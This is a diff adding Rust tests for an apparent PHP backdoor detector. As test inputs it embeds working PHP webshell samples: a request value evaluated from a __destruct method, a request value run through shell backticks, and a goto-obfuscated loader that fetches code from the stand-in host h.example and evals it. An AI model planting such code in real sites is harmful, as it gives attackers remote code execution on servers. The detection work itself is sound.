@@ -1121,3 +1121,35 @@ fn extract_called_through_a_variable_is_read_as_extract() {
         "<?php $data = array('title' => 'Home', 'cb' => 'strtoupper'); $f = 'extract'; $f($data); echo $cb($title);";
     assert!(sinks(view).is_empty(), "{:?}", sinks(view));
 }
+
+#[test]
+fn a_property_read_inside_a_string_is_the_propertys_value() {
+    // servicom's object backdoor: the request kept in a property, run from `__destruct`
+    // through a string that reads it.
+    let s = "<?php class T { public $name = ''; function __destruct() { @eval(\"$this->name\"); } }
+        $t = new T(); $c = @$_POST['css']; $t->name = $c;";
+    assert_eq!(sinks(s), [(Why::CodeFromInput, Danger::Critical)]);
+    let braced =
+        "<?php class T { function __destruct() { eval(\"{$this->code}\"); } } $t = new T(); $t->code = $_GET['x'];";
+    assert_eq!(sinks(braced), [(Why::CodeFromInput, Danger::Critical)]);
+    let shell = "<?php $o->cmd = $_REQUEST['c']; echo `$o->cmd`;";
+    assert_eq!(sinks(shell), [(Why::ShellFromInput, Danger::Critical)]);
+    // Near misses: a property the application sets itself, and the variable alone (an
+    // object printed in a message, not its property).
+    assert!(sinks("<?php class V { function run() { eval(\"$this->code\"); } } $v->code = 'return 1;';").is_empty());
+    assert!(sinks("<?php $o = new X(); $o->name = $_GET['n']; echo \"$o->title\";").is_empty());
+}
+
+#[test]
+fn a_chain_of_assignments_written_backwards_reaches_its_sink() {
+    // get-card's loader: `goto` puts each step before the one it needs, so the request reaches
+    // `eval` two links back (a pass per link).
+    let f = "function g($p = '') { goto k; k: $c = curl_init($p); goto n; n: curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); goto e; e: $r = curl_exec($c); goto b; b: return $r; }";
+    let chained = format!(
+        "<?php function h() {{ goto u; x: eval($b); goto z; s: $p = 'http://h.example/'; goto k; k: $b = g($p . $u); goto x; u: $u = isset($_GET['t']) ? trim($_GET['t']) : ''; goto s; z: }} {f} h();"
+    );
+    assert_eq!(sinks(&chained), [(Why::CodeFromInput, Danger::Critical)]);
+    // Near miss: the same chain with the page's own name in place of the request's field.
+    let own = chained.replace("isset($_GET['t']) ? trim($_GET['t']) : ''", "'page'");
+    assert!(!sinks(&own).contains(&(Why::CodeFromInput, Danger::Critical)), "{:?}", sinks(&own));
+}
